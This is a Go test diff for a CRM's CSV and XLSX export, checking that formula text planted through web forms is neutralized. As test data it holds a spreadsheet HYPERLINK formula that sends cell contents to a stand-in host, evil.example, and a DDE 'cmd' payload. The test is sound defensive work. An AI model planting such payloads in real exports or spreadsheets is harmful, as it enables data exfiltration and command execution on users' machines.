@@ -88,3 +88,55 @@ func TestExportForExcel(t *testing.T) {
 		}
 	})
 }
+
+// TestExportNeutralizesFormulas: text that a public web form can plant
+// (a lead's title, a UTM campaign) is exported so that a spreadsheet does
+// not run it: CSV cells that begin with = + - @ get a leading apostrophe
+// (OWASP), phone numbers and negative amounts stay as they are, and the
+// XLSX writes such text as a string cell, never as a formula.
+func TestExportNeutralizesFormulas(t *testing.T) {
+	eachEnv(t, func(t *testing.T, e *env) {
+		ctx := context.Background()
+		const evil = `=HYPERLINK("http://evil.example/?"&A1,"Открыть")`
+		l := crm.Lead{Title: evil, SourceID: "WEB", UTM: crm.UTM{UTMCampaign: "@SUM(1+1)*cmd|' /C calc'!A0"},
+			Comms: crm.Comms{Phones: []crm.Comm{{Value: "+7 999 123-45-67", ValueType: "WORK"}}}}
+		if _, err := e.app.Store.CreateLead(ctx, e.admin, l); err != nil {
+			t.Fatal(err)
+		}
+		b := e.browser()
+		b.signIn()
+		csv := b.get("/e/lead/export.csv?cols=title&cols=phones")
+		if csv.Status != http.StatusOK {
+			t.Fatalf("CSV: %d %s", csv.Status, csv.Body)
+		}
+		if !strings.Contains(csv.Body, `;"'=HYPERLINK(""http://evil.example/?""&A1,""Открыть"")"`) {
+			t.Errorf("the formula is not neutralized in the list CSV: %q", csv.Body)
+		}
+		if strings.Contains(csv.Body, ";=") || strings.Contains(csv.Body, `;"=`) {
+			t.Errorf("a cell still begins with '=': %q", csv.Body)
+		}
+		if !strings.Contains(csv.Body, "+7 999 123-45-67") || strings.Contains(csv.Body, "'+7") {
+			t.Errorf("the phone number should stay as it is: %q", csv.Body)
+		}
+		rep := b.get("/reports/export.csv?table=leads_campaign")
+		if rep.Status != http.StatusOK || !strings.Contains(rep.Body, "'@SUM(1+1)*cmd|' /C calc'!A0") {
+			t.Errorf("report CSV: %d %q", rep.Status, rep.Body)
+		}
+		x := b.get("/e/lead/export.xlsx?cols=title")
+		f, err := excelize.OpenReader(strings.NewReader(x.Body))
+		if err != nil {
+			t.Fatalf("open the XLSX: %v", err)
+		}
+		defer f.Close()
+		sheet := f.GetSheetName(0)
+		if formula, _ := f.GetCellFormula(sheet, "B2"); formula != "" {
+			t.Errorf("B2 is a formula: %q", formula)
+		}
+		if typ, _ := f.GetCellType(sheet, "B2"); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
+			t.Errorf("B2 has type %v, want a string cell", typ)
+		}
+		if got, _ := f.GetCellValue(sheet, "B2"); got != evil {
+			t.Errorf("B2 = %q, want the text as typed", got)
+		}
+	})
+}
